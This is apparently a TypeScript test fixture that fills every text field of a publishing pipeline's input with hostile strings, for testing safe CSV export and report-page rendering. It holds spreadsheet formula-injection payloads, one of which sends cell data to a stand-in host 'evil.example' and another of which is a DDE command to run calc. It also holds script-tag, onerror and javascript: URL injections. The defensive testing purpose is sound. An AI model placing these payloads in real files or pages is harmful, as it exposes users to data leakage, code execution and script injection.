// Hand-made publish input whose every text field is hostile: spreadsheet formulas, CSV-breaking
// characters, HTML and script, and a javascript: url. Shared by the safe-CSV and report-page tests.
import { languages } from '../../pipeline/languages/index.ts';
import type { PublishInput } from '../../pipeline/stages/publish.ts';
import type { Claim, Finding, SourceRow } from '../../pipeline/schemas.ts';

/** Each must come back from a CSV reader as written, or apostrophe-prefixed if it could run as a formula. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for sources")',
  '=cmd|\' /C calc\'!A0',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading carriage return',
  'a "quoted" word, and a comma',
  'line one\nline two',
  'bare\rCR inside',
  'CRLF\r\ninside',
  ' leading and trailing spaces ',
  'hàng trăm người thiệt mạng; Ереван; 東京; ناگورنو-قره‌باغ; 🕊',
  '</script><script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
] as const;

const base: Claim = {
  claim_id: 'hostile:1:1', source_id: 'hostile', conflict: 'test-war', measure: 'killed', population: 'total', side: '',
  period_start: '2020-09-27', period_end: '', as_of: '2020-10-21', low: 100, best: 200, high: 999, qualifier: 'hundreds',
  rule: 'vague.hundreds', value_text: 'hundreds', quote: 'Hundreds were killed.', quote_start: 0, quote_end: 21,
  claimant: 'Ministry', claimant_party: '', claimant_kind: '', publisher: 'Outlet', url: 'https://example.org/a?b=1&c=2',
  published_at: '2020-10-21', language: 'en', flags: '', policy: 'interval',
};

/** One claim per hostile text, the text in every free-text column; numbers stay numbers. */
export function hostileClaims(): Claim[] {
  return HOSTILE_TEXTS.map((text, i) => ({
    ...base, claim_id: `hostile:${i + 1}:1`, value_text: text, quote: text, claimant: text, publisher: text, side: text,
    flags: text, url: i % 2 ? 'javascript:window.__pwned = 3' : `https://example.org/${i}?q="${i}"&x=<b>`,
    best: 200 + i, high: 999, quote_start: i === 0 ? null : i, quote_end: i === 0 ? null : i + 5,
  }));
}

export function hostileSources(): SourceRow[] {
  return [{
    id: 'hostile', kind: 'article', path: 'articles/hostile.txt', title: HOSTILE_TEXTS[0], publisher: HOSTILE_TEXTS[4],
    url: 'javascript:window.__pwned = 4', published_at: '2020-10-21', language: 'en', accessed_at: '', conflict: 'test-war', notes: HOSTILE_TEXTS[13],
  }];
}

export function hostileFindings(): Finding[] {
  return HOSTILE_TEXTS.map((text, i) => ({ file: text, line: i + 1, column: null, source_id: 'hostile', outcome: 'flagged', code: 'hostile_text', message: text || 'empty', fix: text }));
}

export function hostileInput(): PublishInput {
  return { sources: hostileSources(), claims: hostileClaims(), estimates: [], series: [], events: [], findings: hostileFindings(), languages };
}
